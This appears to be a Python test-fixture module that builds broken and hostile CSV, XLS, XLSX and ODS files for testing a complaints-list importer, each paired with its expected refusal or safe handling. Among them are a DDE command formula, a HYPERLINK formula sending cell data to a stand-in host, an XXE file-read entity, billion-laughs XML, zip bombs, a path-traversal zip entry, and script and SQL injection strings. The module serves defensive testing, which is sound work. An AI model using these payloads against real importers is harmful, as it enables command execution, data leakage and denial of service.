"""Broken and hostile files, each with how it is made, what must come of it and what the message must say.

`FILES` is the list. Three outcomes: "refused" (the file is not read at all, with a reason), "read_as_text" (it is
read, and nothing in it is run, fetched or worked out) and "rows_to_mend" (it is read, and the rows named are
refused one by one when they are judged). None may be half imported.
"""

import csv
import gzip
import io
import os
import struct
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import time
from pathlib import Path
from random import Random
from typing import Any, Literal

import openpyxl
import xlsxwriter
import xlwt

Outcome = Literal["refused", "rows_to_mend", "read_as_text"]
_Rows = list[list[Any]]
_Write = Callable[[Path], object]


@dataclass(frozen=True, slots=True)
class HostileFile:
    """One file. `words` must all stand in the message; `row` and `column` are those that it must name.

    `column` is a letter when the file is refused, and the heading when a row is to be mended.
    """

    name: str
    story: str
    outcome: Outcome
    words: tuple[str, ...]
    write: _Write
    row: int | None = None
    column: str | None = None

    def make(self, tmp_path: Path) -> Path:
        """Make the file in `tmp_path`."""
        path = tmp_path / self.name
        self.write(path)
        return path


HEADINGS = [
    "Ref",
    "Type",
    "Date received",
    "Method",
    "Complainant",
    "Complainant type",
    "Advocate (Y/N)",
    "Advocacy provider",
    "Team",
    "Category 1",
    "Category 2",
    "Allocated manager",
    "Stage",
    "Stage start",
    "Due date",
    "Extended to",
    "Response sent",
    "Working days",
    "In time (Y/N)",
    "Outcome",
    "Status",
    "Compensation",
    "Compensation detail",
    "Comments",
]


def complaint(number: int, **changes: Any) -> list[Any]:
    """A sound row of a complaints list, with the named columns changed (spaces as underscores)."""
    said = {
        "Ref": f"CSC/1617/{number:03d}",
        "Type": "Formal statutory",
        "Date received": "07/04/2016",
        "Method": "Email",
        "Complainant": "Quinn Elmbourne",
        "Complainant type": "Parent",
        "Advocate (Y/N)": "N",
        "Team": "South neighbourhood team",
        "Category 1": "Poor communication",
        "Allocated manager": "Devon Draybourne",
        "Stage": "1",
        "Stage start": "07/04/2016",
        "Due date": "21/04/2016",
        "Response sent": "20/04/2016",
        "Working days": "9",
        "In time (Y/N)": "Y",
        "Outcome": "Upheld",
        "Status": "Closed",
    }
    said |= {heading.replace("_", " "): value for heading, value in changes.items()}
    return [said.get(heading, "") for heading in HEADINGS]


def complaints(*changed: dict[str, Any]) -> _Rows:
    """A list of two sound rows (file rows 2 and 3) and then the changed ones (from file row 4)."""
    sound = [complaint(1), complaint(2)]
    return [
        list(HEADINGS),
        *sound,
        *(complaint(number, **each) for number, each in enumerate(changed, start=3)),
    ]


def as_csv(rows: _Rows) -> str:
    """The rows as CSV text."""
    text = io.StringIO(newline="")
    csv.writer(text).writerows(rows)
    return text.getvalue()


def as_xlsx(rows: _Rows, *, change: Callable[[Any], object] = lambda workbook: None) -> bytes:
    """The rows as an Excel workbook, with something done to the workbook before it is saved."""
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    change(workbook)
    file = io.BytesIO()
    workbook.save(file)
    return file.getvalue()


def as_xls(rows: _Rows) -> bytes:
    """The rows as an Excel workbook of 1997 to 2003."""
    workbook = xlwt.Workbook()
    sheet = workbook.add_sheet("List")
    for at, row in enumerate(rows):
        for place, cell in enumerate(row):
            sheet.write(at, place, cell)
    file = io.BytesIO()
    workbook.save(file)
    return file.getvalue()


def as_ods(content: str) -> bytes:
    """An OpenDocument spreadsheet with this as the inside of its table."""
    names = "urn:oasis:names:tc:opendocument:xmlns"
    xml = (
        f'<?xml version="1.0"?><office:document-content xmlns:office="{names}:office:1.0" '
        f'xmlns:table="{names}:table:1.0" xmlns:text="{names}:text:1.0"><office:body><office:spreadsheet>'
        f'<table:table table:name="List">{content}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    manifest = '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    return zipped({"mimetype": kind, "content.xml": xml, "META-INF/manifest.xml": manifest})


def zipped(members: dict[str, str | bytes]) -> bytes:
    """A zip of these members."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as written:
        for name, inside in members.items():
            written.writestr(name, inside)
    return file.getvalue()


def rezipped(workbook: bytes, **members: str | bytes | Callable[[bytes], bytes]) -> bytes:
    """The workbook with members added, or changed by a function. `__` in a name means `/`, one `_` a full stop."""
    with zipfile.ZipFile(io.BytesIO(workbook)) as before:
        inside: dict[str, str | bytes] = {name: before.read(name) for name in before.namelist()}
    for spelt, change in members.items():
        name = spelt.replace("__", "/").replace("_", ".")
        inside[name] = change(inside[name]) if callable(change) else change  # type: ignore[arg-type]
    return zipped(inside)


def _text(text: str, encoding: str = "utf-8") -> _Write:
    return lambda path: path.write_bytes(text.encode(encoding))


def _bytes(make: Callable[[], bytes]) -> _Write:
    return lambda path: path.write_bytes(make())


def _csv(*changed: dict[str, Any]) -> _Write:
    return _text(as_csv(complaints(*changed)))


_SOUND = complaints({}, {})
_SHEET = "xl__worksheets__sheet1_xml"


def _declared(declaration: bytes) -> Callable[[], bytes]:
    def put_in(sheet: bytes) -> bytes:
        return declaration + sheet

    return lambda: rezipped(as_xlsx(_SOUND), **{_SHEET: put_in})


_LAUGHS = b'<!DOCTYPE a [<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
)


def _sparse(path: Path) -> None:
    with path.open("wb") as file:
        file.write(as_csv(_SOUND).encode())
        file.truncate(2 * 1024**3)


def _swelling() -> bytes:
    blank = b'<row><c t="inlineStr"><is><t></t></is></c></row>' * 1_300_000
    return rezipped(as_xlsx(_SOUND), xl__worksheets__sheet9_xml=blank)


def _lying_about_size() -> bytes:
    made = bytearray(rezipped(as_xlsx(_SOUND), **{_SHEET: lambda sheet: sheet + b" " * 3_000_000}))
    with zipfile.ZipFile(io.BytesIO(bytes(made))) as workbook:
        true = workbook.getinfo("xl/worksheets/sheet1.xml").file_size
    said, at = struct.pack("<I", true), 0
    while (at := made.find(said, at)) >= 0:
        made[at : at + 4] = struct.pack("<I", 1_000)
    return bytes(made)


def _locked_zip() -> bytes:
    made = bytearray(as_xlsx(_SOUND))
    at = 0
    while (at := made.find(b"PK\x01\x02", at)) >= 0:
        made[at + 8] |= 1
        at += 4
    return bytes(made)


def _two_of_a_name() -> bytes:
    return zipped(
        {"xl/worksheets/sheet1.xml": "<a/>", "XL/worksheets/sheet1.xml": "<b/>", "xl/workbook.xml": "<c/>"}
    )


def _ole_named(name: str) -> Callable[[], bytes]:
    """An XLS whose one stream has another name, as a locked workbook or a Word document has."""

    def make() -> bytes:
        made, old = bytearray(as_xls(_SOUND)), "Workbook".encode("utf-16-le")
        at = made.rfind(old)
        made[at : at + 64] = name.encode("utf-16-le").ljust(64, b"\x00")
        made[at + 64 : at + 66] = struct.pack("<H", 2 * len(name) + 2)
        return bytes(made)

    return make


def _locked_xls() -> bytes:
    made = bytearray(as_xls(_SOUND))
    after_the_first = 512 + 4 + struct.unpack_from("<H", made, 514)[0]
    made[after_the_first : after_the_first + 2] = b"\x2f\x00"
    return bytes(made)


def _ringed_xls() -> bytes:
    """Each sector says that the next is itself."""
    made = bytearray(as_xls(complaints(*[{}] * 200)))
    table = struct.unpack_from("<I", made, 76)[0]
    at = 512 * (table + 1)
    made[at : at + 512] = struct.pack("<128I", *range(128))
    return bytes(made)


def _scrambled_xls() -> bytes:
    made, dice = bytearray(as_xls(_SOUND)), Random(7)
    for _ in range(3_000):
        made[dice.randrange(512, len(made))] = dice.randrange(256)
    return bytes(made)


def _far_cell(workbook: Any) -> None:
    workbook.active["XFD1048576"] = "x"


def _formula_never_worked_out(workbook: Any) -> None:
    workbook.active["R3"] = "=NETWORKDAYS(C3,Q3)"


def _hidden(workbook: Any) -> None:
    workbook.create_chartsheet("Chart")
    workbook.worksheets[0].sheet_state = "hidden"


def _claimed(sheet: bytes) -> bytes:
    before, _, after = sheet.partition(b"<dimension ref=")
    return before + b'<dimension ref="A1:XFD1048576"' + after[after.index(b"/>") :]


def _one_text_many_times() -> bytes:
    """One text of 32,000 letters, pointed at 20,000 times: 1 MB of sheet that means 640 MB of text."""
    file = io.BytesIO()
    with xlsxwriter.Workbook(file, {"in_memory": True}) as workbook:
        sheet = workbook.add_worksheet()
        for row in range(20_000):
            sheet.write_string(row, 0, "x" * 32_000)
    return file.getvalue()


def _error_cell(workbook: Any) -> None:
    workbook.active["Q3"] = "#N/A"
    workbook.active["Q3"].data_type = "e"


def _folder_full(count: int) -> Callable[[], bytes]:
    return lambda: rezipped(
        as_xlsx(_SOUND), **{f"xl__worksheets__extra{n}_xml": "<a/>" for n in range(count)}
    )


_ODS_CELL = "<table:table-cell office:value-type='string'><text:p>{}</text:p></table:table-cell>"
_ODS_ROW = (
    "<table:table-row{}><table:table-cell{} office:value-type='string'><text:p>x</text:p></table:table-cell>"
    "</table:table-row>"
)
_ODS_HEADED = "".join(
    f"<table:table-row>{''.join(_ODS_CELL.format(text) for text in row)}</table:table-row>"
    for row in (("Ref", "Team"), ("1", "x"))
)
_ODS_BLANK = (
    "<table:table-row table:number-rows-repeated='1048574'><table:table-cell "
    "table:number-columns-repeated='16384'/></table:table-row>"
)
_ODS_FORMULA = "<table:table-row><table:table-cell table:formula='of:=SUM([.A1])'/></table:table-row>"


def _refused(
    name: str,
    story: str,
    words: Sequence[str],
    write: _Write,
    row: int | None = None,
    column: str | None = None,
) -> HostileFile:
    return HostileFile(name, story, "refused", tuple(words), write, row, column)


def _as_text(name: str, story: str, words: Sequence[str], write: _Write) -> HostileFile:
    """`words` are texts that must be found in its cells, letter for letter."""
    return HostileFile(name, story, "read_as_text", tuple(words), write)


def _mend(
    name: str, story: str, words: Sequence[str], column: str, write: _Write, row: int = 4
) -> HostileFile:
    return HostileFile(name, story, "rows_to_mend", tuple(words), write, row, column)


_REFUSED_TEXT = [
    _refused("empty.csv", "nothing in it", ["empty"], _text("")),
    _refused("blank.csv", "only separators and spaces", ["empty"], _text(",,,\n ,,\n,,,\n")),
    _refused(
        "only_headings.csv", "headings and no rows", ["no rows below"], _text(as_csv([list(HEADINGS)])), 1
    ),
    _refused("no_headings.csv", "the list begins at once", ["heading row"], _text(as_csv(_SOUND[1:]))),
    _refused("nul.csv", "a NUL in row 3", ["NUL"], _text(as_csv(_SOUND).replace("002", "0\x002")), 3),
    _refused(
        "utf16_unmarked.csv", "UTF-16 that does not say so", ["NUL"], _text(as_csv(_SOUND), "utf-16-le"), 1
    ),
    _refused(
        "broken_utf16.csv",
        "marked as UTF-16, ends in half a letter",
        ["UTF-16"],
        _bytes(lambda: b"\xff\xfeR\x00e\x00f"),
    ),
    _refused(
        "open_quote.csv",
        "a quotation mark never closed",
        ["quotation mark"],
        _text('Ref,Team\n1,"South\n2,North\n'),
        2,
    ),
    _refused(
        "stray_quote.csv",
        "a quotation mark in mid-cell",
        ["quotation mark"],
        _text('Ref,Team\n1,"South" team\n'),
        2,
    ),
    _refused(
        "long_cell.csv", "a cell of 40,000 letters", ["32,767"], _csv({"Comments": "x" * 40_000}), 4, "X"
    ),
    _refused(
        "huge_cell.csv", "a cell of 5 million letters", ["32,767"], _csv({"Comments": "x" * 5_000_000}), 4
    ),
    _refused(
        "two_alphabets.csv",
        "pasted together from UTF-8 and code page 1252",
        ["UTF-8", "1252"],
        _bytes(lambda: b"Ref,Name\n1,Zo\xeb\n2,Ren\xc3\xa9e\n"),
        3,
    ),
    _refused("many_cells.csv", "5 million separators", ["5,000,000"], _text(("," * 20_000 + "\n") * 251)),
    _refused("two_gigabytes.csv", "2 GB, nearly all of it holes", ["2,048 MB", "100 MB"], _sparse),
    _refused("folder.csv", "a folder", ["folder"], lambda path: path.mkdir()),
    _refused("pipe.csv", "a pipe that never says anything", ["not a file"], os.mkfifo),
    _refused("gone.csv", "not there", ["cannot be opened"], lambda path: None),
]

_REFUSED_OTHER_KINDS = [
    _refused(
        "page.xls",
        "a web page called .xls",
        ["web page"],
        _text("<html><table><tr><td>Ref</td></tr></table></html>"),
    ),
    _refused(
        "xml_2003.xls",
        "an XML spreadsheet called .xls",
        ["XML spreadsheet"],
        _text('<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>'),
    ),
    _refused("report.xlsx", "a PDF called .xlsx", ["PDF"], _bytes(lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")),
    _refused(
        "scan.xlsx", "a picture called .xlsx", ["picture"], _bytes(lambda: b"\x89PNG\r\n\x1a\n" + bytes(200))
    ),
    _refused("program.xls", "a program called .xls", ["program"], _bytes(lambda: b"MZ\x90" + bytes(200))),
    _refused("list.csv.gz", "compressed", ["gzip"], _bytes(lambda: gzip.compress(as_csv(_SOUND).encode()))),
    _refused("word.xlsx", "a Word document", ["Word"], _bytes(lambda: zipped({"word/document.xml": "<a/>"}))),
    _refused("letter.xls", "an old Word document", ["Word"], _bytes(_ole_named("WordDocument"))),
    _refused(
        "binary.xlsb", "an Excel binary workbook", ["xlsb"], _bytes(lambda: zipped({"xl/workbook.bin": "x"}))
    ),
    _refused(
        "folder.zip",
        "a zip with a list in it",
        ["zip folder"],
        _bytes(lambda: zipped({"a.csv": as_csv(_SOUND)})),
    ),
    _refused(
        "text.ods",
        "an OpenDocument text",
        ["another kind"],
        _bytes(
            lambda: zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"})
        ),
    ),
]

_REFUSED_WORKBOOKS = [
    _refused("cut_short.xlsx", "half of the workbook", ["damaged"], _bytes(lambda: as_xlsx(_SOUND)[:3_000])),
    _refused("empty_zip.xlsx", "a zip of nothing", ["zip folder"], _bytes(lambda: zipped({}))),
    _refused(
        "broken_xml.xlsx",
        "a sheet that stops in mid-tag",
        ["damaged"],
        _bytes(lambda: rezipped(as_xlsx(_SOUND), **{_SHEET: lambda sheet: sheet[:700]})),
    ),
    _refused("bomb.xlsx", "60 MB of nothing packed into 200 KB", ["swell"], _bytes(_swelling)),
    _refused("lying.xlsx", "a part that is larger than it says", ["size"], _bytes(_lying_about_size)),
    _refused("many_parts.xlsx", "2,100 parts", ["2,000"], _bytes(_folder_full(2_100))),
    _refused("laughs.xlsx", "a billion laughs", ["DOCTYPE"], _bytes(_declared(_LAUGHS + b"]>"))),
    _refused(
        "fetch.xlsx",
        "a declaration that fetches a file of ours",
        ["DOCTYPE"],
        _bytes(_declared(b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]>')),
    ),
    _refused(
        "laughs.ods",
        "a billion laughs in OpenDocument",
        ["DOCTYPE"],
        _bytes(lambda: rezipped(as_ods(""), content_xml=_LAUGHS + b"]><a/>")),
    ),
    _refused(
        "utf16_xml.xlsx",
        "a declaration hidden in UTF-16",
        ["alphabet"],
        _bytes(lambda: rezipped(as_xlsx(_SOUND), **{_SHEET: "\ufeff<!DOCTYPE a><a/>".encode("utf-16-le")})),
    ),
    _refused(
        "outside.xlsx",
        "a part to be put outside",
        ["outside"],
        _bytes(lambda: zipped({"../../etc/cron.d/x": "x", "xl/workbook.xml": "<a/>"})),
    ),
    _refused("twins.xlsx", "two parts of one name", ["same name"], _bytes(_two_of_a_name)),
    _refused(
        "nested.xlsx",
        "a workbook in a workbook",
        ["inside"],
        _bytes(lambda: rezipped(as_xlsx(_SOUND), xl__embeddings__1_xlsx=as_xlsx(_SOUND))),
    ),
    _refused("locked_zip.xlsx", "parts under a password", ["password"], _bytes(_locked_zip)),
    _refused(
        "locked.xlsx", "a workbook under a password", ["password"], _bytes(_ole_named("EncryptedPackage"))
    ),
    _refused("locked.xls", "an old workbook under a password", ["password"], _bytes(_locked_xls)),
    _refused(
        "far_cell.xlsx",
        "a cell in the last row and column",
        ["cells", "XFD1048576"],
        _bytes(lambda: as_xlsx(_SOUND, change=_far_cell)),
    ),
    _refused("long_text.xlsx", "one text, 20,000 times", ["memory"], _bytes(_one_text_many_times)),
    _refused(
        "hidden.xlsx", "no sheet to be seen", ["visible"], _bytes(lambda: as_xlsx(_SOUND, change=_hidden))
    ),
    _refused(
        "formula.xlsx",
        "a formula never worked out",
        ["formula", "row 3, column R"],
        _bytes(lambda: as_xlsx(_SOUND, change=_formula_never_worked_out)),
        3,
        "R",
    ),
    _refused("formula.ods", "a formula never worked out", ["formula"], _bytes(lambda: as_ods(_ODS_FORMULA))),
    _refused(
        "bomb.ods",
        "one cell, said 16,384 × 1,048,576 times",
        ["cells"],
        _bytes(
            lambda: as_ods(
                _ODS_ROW.format(
                    " table:number-rows-repeated='1048576'", " table:number-columns-repeated='16384'"
                )
            )
        ),
    ),
    _refused("cut_short.xls", "half of an old workbook", ["damaged"], _bytes(lambda: as_xls(_SOUND)[:1_500])),
    _refused("ring.xls", "sectors in a ring", ["damaged"], _bytes(_ringed_xls)),
    _refused("scrambled.xls", "an old workbook, scrambled", ["damaged"], _bytes(_scrambled_xls)),
    _refused(
        "junk.xls",
        "the first bytes of an old workbook, then anything",
        ["damaged"],
        _bytes(lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + Random(1).randbytes(20_000)),
    ),
]

_COMMAND = "=cmd|' /C calc'!A0"
_LINK = '=HYPERLINK("http://elsewhere.example/?"&A2,"more")'

_READ_AS_TEXT = [
    _as_text(
        "command.csv",
        "cells that Excel would run",
        [_COMMAND, _LINK],
        _csv({"Comments": _COMMAND, "Team": _LINK}),
    ),
    _as_text(
        "signs.csv",
        "cells that begin with + - @",
        ["+1+1", "@SUM(1)"],
        _csv({"Team": "+1+1", "Comments": "@SUM(1)"}),
    ),
    _as_text(
        "script.csv", "a script in a name", ["<script>"], _csv({"Complainant": "<script>alert(1)</script>"})
    ),
    _as_text(
        "sql.csv",
        "SQL in a name",
        ["Robert'); DROP"],
        _csv({"Complainant": "Robert'); DROP TABLE complaints;--"}),
    ),
    _as_text(
        "escape.csv", "colours for a terminal", ["\x1b[2J"], _csv({"Complainant": "\x1b[2J\x1b[31mRed"})
    ),
    _as_text(
        "mirror.csv",
        "letters that turn the line round",
        ["\u202e"],
        _csv({"Complainant": "Lee \u202eyelraH"}),
    ),
    _as_text("lines.csv", "line breaks within cells", ["one\ntwo"], _csv({"Comments": "one\ntwo"})),
    _as_text(
        "semicolons.csv",
        "semicolons between cells",
        ["CSC/1617/002"],
        _text(as_csv(_SOUND).replace(",", ";")),
    ),
    _as_text("utf16.csv", "UTF-16 that says so", ["CSC/1617/002"], _text(as_csv(_SOUND), "utf-16")),
    _as_text("wrongly_named.xlsx", "CSV called .xlsx", ["CSC/1617/002"], _csv()),
    _as_text(
        "claims.xlsx",
        "says that it has 17 billion cells, and has 100",
        ["CSC/1617/002"],
        _bytes(lambda: rezipped(as_xlsx(_SOUND), **{_SHEET: _claimed})),
    ),
    _as_text(
        "blank_to_the_end.ods",
        "one cell, then blank rows to the last row there is, as LibreOffice writes them",
        ["x"],
        _bytes(lambda: as_ods(_ODS_HEADED + _ODS_BLANK)),
    ),
    _as_text(
        "macros.xlsm",
        "a workbook with macros",
        ["CSC/1617/002"],
        _bytes(lambda: rezipped(as_xlsx(_SOUND), xl__vbaProject_bin=b"\xd0\xcf\x11\xe0" + bytes(400))),
    ),
]

_ROWS_TO_MEND = [
    _mend(
        "no_such_day.csv",
        "31 February",
        ["31/02/2026"],
        "Response sent",
        _csv({"Response_sent": "31/02/2026"}),
    ),
    _mend(
        "month_first.csv",
        "a column written the American way",
        ["04/13/2016", "month-first"],
        "Date received",
        _csv({"Date_received": "04/13/2016", "Stage_start": ""}),
    ),
    _mend(
        "words_for_a_date.csv",
        "words for a date",
        ["last Tuesday"],
        "Date received",
        _csv({"Date_received": "last Tuesday"}),
    ),
    _mend(
        "no_year.csv",
        "a date without a year",
        ["7 April"],
        "Date received",
        _csv({"Date_received": "7 April"}),
    ),
    _mend(
        "far_number.csv", "a day number of 1927", ["10000"], "Date received", _csv({"Date_received": "10000"})
    ),
    _mend(
        "weekday.csv",
        "a weekday that is not that date's",
        ["Fri 7 April 2016"],
        "Date received",
        _csv({"Date_received": "Fri 7 April 2016"}),
    ),
    _mend(
        "far_future.csv",
        "a year of 3016",
        ["07/04/3016"],
        "Date received",
        _csv({"Date_received": "07/04/3016"}),
    ),
    _mend(
        "time_for_a_date.xlsx",
        "a time where a date should be",
        ["13:05"],
        "Date received",
        _bytes(lambda: as_xlsx(complaints({"Date_received": time(13, 5)}))),
    ),
    _mend(
        "error.xlsx",
        "an error where a date should be",
        ["#N/A"],
        "Response sent",
        _bytes(lambda: as_xlsx(_SOUND, change=_error_cell)),
        row=3,
    ),
    _mend(
        "more_cells.csv",
        "a row with more cells than headings",
        ["spare"],
        "Column Y",
        _text(as_csv([*complaints(), [*complaint(3), "spare"]])),
    ),
    _mend("no_reference.csv", "a row without a reference", ["Ref"], "Ref", _csv({"Ref": ""})),
    _mend("below_zero.csv", "money below zero", ["-£200"], "Compensation", _csv({"Compensation": "-£200"})),
    _mend("no_money.csv", "words for money", ["lots"], "Compensation", _csv({"Compensation": "lots"})),
    _mend("banana.csv", "a stage that is none", ["banana"], "Stage", _csv({"Stage": "banana"})),
    _mend(
        "answered_first.csv",
        "answered before it was received",
        ["01/04/2016"],
        "Response sent",
        _csv({"Response_sent": "01/04/2016"}),
    ),
]

FILES: list[HostileFile] = [
    *_REFUSED_TEXT,
    *_REFUSED_OTHER_KINDS,
    *_REFUSED_WORKBOOKS,
    *_READ_AS_TEXT,
    *_ROWS_TO_MEND,
]
